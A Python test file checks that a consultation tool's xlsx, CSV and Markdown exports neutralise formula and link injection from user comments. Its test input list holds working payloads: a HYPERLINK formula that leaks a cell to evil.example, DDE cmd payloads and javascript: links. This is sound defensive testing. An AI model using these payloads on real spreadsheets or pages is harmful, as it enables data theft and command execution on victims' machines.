"""A user's "=…" never becomes a live formula, and a javascript: link never a link: every
.xlsx (feedback, review, export), the CSV export and the review .md are checked."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from minyi.core.records import CommentIn, RecordIn, SourceIn
from minyi.core.safety import escape_markdown, is_formula_like, neutralise_cell, safe_link
from minyi.services.analysis import analyze
from minyi.services.context import SYSTEM
from minyi.services.documents import feedback_document, review_report
from minyi.services.exports import export_suggestions
from models.ingest import ingest
from models.store import create_consultation

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1 前面有空格",
    "\t=1+1 前面有制表符",
    "＝1+1 全角等号",
    "[点这里](javascript:alert(1)) 建议第五条删除",
    "<a href=\"javascript:alert(2)\">链接</a> 建议第六条修改",
]


@pytest.mark.parametrize("text", HOSTILE[:7])
def test_neutraliser_follows_owasp(text):
    assert is_formula_like(text)
    assert neutralise_cell(text) == "'" + text
    assert neutralise_cell(5) == 5 and neutralise_cell("建议删除") == "建议删除"


def test_links_and_markdown_are_made_inert():
    assert safe_link("javascript:alert(1)") is None and safe_link(" JaVaScRiPt:x") is None
    assert safe_link("data:text/html,x") is None
    assert safe_link("https://example.cn/a") == "https://example.cn/a" and safe_link("charts/a.png") == "charts/a.png"
    assert "](javascript:" not in escape_markdown("[x](javascript:alert(1))")


def live_formulas(path: Path) -> list[str]:
    """Cells stored as formulas (<f> elements) in any sheet of the workbook."""
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and re.search(rb"<(?:\w+:)?f[ >]", z.read(n))]


def test_no_user_text_becomes_a_formula_or_a_link_in_any_document(session, tmp_path):
    cid = create_consultation(session, title="测试条例（征求意见稿）").id
    ingest(session, cid, SourceIn("form", "恶意.xlsx", fingerprint="f"), [
        RecordIn("恶意.xlsx", f"row={i}", {"i": i},
                 comment=CommentIn(text, reason=text, author_organisation=text if i % 2 else None))
        for i, text in enumerate(HOSTILE, start=2)
    ])
    analyze(session, SYSTEM, cid, backend="tfidf")
    session.commit()
    out = tmp_path / "out"
    books = [
        Path(feedback_document(session, SYSTEM, cid, "xlsx", out / "feedback.xlsx", record=False).path),
        Path(review_report(session, SYSTEM, cid, "xlsx", out / "review.xlsx").path),
    ]
    export_suggestions(session, SYSTEM, cid, "xlsx", out / "export.xlsx")
    books.append(out / "export.xlsx")
    assert {b.name: live_formulas(b) for b in books} == {b.name: [] for b in books}

    import openpyxl

    cells = [str(c.value) for c in openpyxl.load_workbook(out / "export.xlsx").worksheets[0].iter_rows() for c in c]
    assert any("HYPERLINK" in c for c in cells)  # the words are there, as text

    text = export_suggestions(session, SYSTEM, cid, "csv", out / "export.csv").text
    for row in csv.reader(io.StringIO(text)):
        assert not any(is_formula_like(cell) for cell in row), row

    review_report(session, SYSTEM, cid, "md", out / "review.md")
    md = (out / "review.md").read_text("utf-8")
    assert "](javascript:" not in md and "<a href" not in md
    assert "javascript" in md  # kept as words
